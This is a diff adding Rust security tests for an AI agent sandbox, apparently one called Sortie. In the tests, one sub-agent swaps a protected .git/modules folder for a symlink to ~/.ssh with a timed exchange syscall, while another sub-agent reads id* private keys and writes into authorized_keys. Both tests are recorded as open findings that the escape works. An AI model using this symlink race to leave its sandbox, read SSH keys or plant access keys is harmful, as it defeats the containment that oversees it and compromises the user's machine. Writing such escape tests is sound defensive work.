@@ -1,0 +1,118 @@
+//! Root cause 1 for the sandbox itself: what was looked at while a view was planned is what is shown.
+//!
+//! Two children work in one workspace. One swaps a folder that the sandbox protects for a link that
+//! leads out, as fast as it can; the other starts commands, each of which has its view built
+//! meanwhile.
+
+use serde_json::json;
+
+use super::stage::{Answer, CANARY, FILTER_OFF, Files, Scene, answers, exec};
+
+/// How many views are built while the folder is swapped.
+const VIEWS: usize = 300;
+
+/// Makes a repository beneath `.git/modules`, and swaps a part of it until there is a file `stop`.
+/// The system call exchanges two names at once.
+#[cfg(target_arch = "x86_64")]
+const EXCHANGE: &str = "316";
+#[cfg(target_arch = "aarch64")]
+const EXCHANGE: &str = "276";
+
+const SWAP: &str = r#"
+mkdir -p .git/modules && git init -q --bare .git/modules/evil && rm -rf .git/modules/evil/hooks
+export WAY=LINK MAKE="CREATE"
+cd FOLDER
+perl -e '
+    my ($one, $other, $workspace) = ("NAME", "other", $ARGV[0]);
+    my $links = sub { scalar grep { -l $_ } $one, $other };
+    my $folders = sub { scalar grep { !-l $_ && -d $_ } $one, $other };
+    until (-e "$workspace/stop") {
+        if ($links->() != 1 || $folders->() != 1) {
+            system "rm -rf $one $other; $ENV{MAKE} $one; ln -s $ENV{WAY} $other";
+        }
+        for (1 .. 20) {
+            syscall(EXCHANGE, -100, $one, -100, $other, 2);
+            select undef, undef, undef, 0.00005 + rand 0.0006;
+        }
+    }
+' "$OLDPWD"
+"#;
+
+/// What is swapped: where, its name, how it is made, and where the link leads.
+struct Swapped {
+    folder: &'static str,
+    name: &'static str,
+    create: &'static str,
+    link: &'static str,
+}
+
+/// Lets one child swap while the other looks, and gives what the other saw, and how it was and is
+/// outside.
+fn raced(swapped: &Swapped, look: &str) -> (Vec<Answer>, Files, Files) {
+    let scene = Scene::set();
+    let workspace = scene.world.workspace();
+    let made = std::process::Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&workspace)
+        .status();
+    assert!(made.unwrap().success());
+    let before = scene.outside();
+    let swap = SWAP
+        .replace("FOLDER", swapped.folder)
+        .replace("NAME", swapped.name)
+        .replace("CREATE", swapped.create)
+        .replace("LINK", swapped.link)
+        .replace("EXCHANGE", EXCHANGE);
+    // Starts when there is something to look at.
+    let mut looks = vec![exec("until test -d .git/modules/evil/objects; do :; done")];
+    looks.extend(std::iter::repeat_n(exec(look), VIEWS));
+    looks.push(exec("touch stop"));
+    let task = |label: &str| json!({ "tool": "task", "args": { "description": label, "prompt": label, "subagent_type": "code" } });
+    let first =
+        json!({ "when": { "depth": 0, "turn": 1 }, "calls": [task("swapper"), task("looker")] });
+    let swapper = json!({ "when": { "label": "swapper", "turn": 1 }, "calls": [exec(&swap)] });
+    let looker = json!({ "when": { "label": "looker", "turn": 1 }, "calls": looks });
+    let rules = format!("  - {first}\n  - {swapper}\n  - {looker}\n  - say: done\n");
+    let model = scene.world.scenario(&rules);
+    let run = ["run", "race", "--yes", "--model", &model];
+    scene.world.ok(&[&run[..], &FILTER_OFF].concat());
+    let looker = scene.world.task("looker");
+    let seen = answers(&scene.world, looker["task_id"].as_str().unwrap());
+    (seen, before, scene.outside())
+}
+
+#[test]
+#[ignore = "finding: a protected folder that another child swaps for a link while a view is built shows what the link leads to, ~/.ssh included"]
+fn a_swapped_folder_shows_nothing_outside() {
+    let swapped = Swapped {
+        folder: ".git/modules/evil",
+        name: "hooks",
+        create: "mkdir",
+        link: "../../../../.ssh",
+    };
+    let (seen, before, after) = raced(
+        &swapped,
+        "cat .git/modules/evil/hooks/* .git/modules/evil/other/*",
+    );
+    let leaks = seen.iter().filter(|answer| answer.text.contains(CANARY));
+    assert_eq!(leaks.count(), 0, "of {VIEWS} commands");
+    assert_eq!(after, before);
+}
+
+#[test]
+#[ignore = "finding: a folder above a protected one that another child swaps for a link makes Sortie write outside"]
+fn a_swapped_folder_makes_nothing_outside() {
+    let swapped = Swapped {
+        folder: ".git/modules",
+        name: "evil",
+        create: "git init -q --bare",
+        link: "../../../.ssh",
+    };
+    let (seen, before, after) = raced(
+        &swapped,
+        "echo evil > .git/modules/evil/authorized_keys; cat .git/modules/evil/id*",
+    );
+    let leaks = seen.iter().filter(|answer| answer.text.contains(CANARY));
+    assert_eq!(leaks.count(), 0, "of {VIEWS} commands");
+    assert_eq!(after, before);
+}
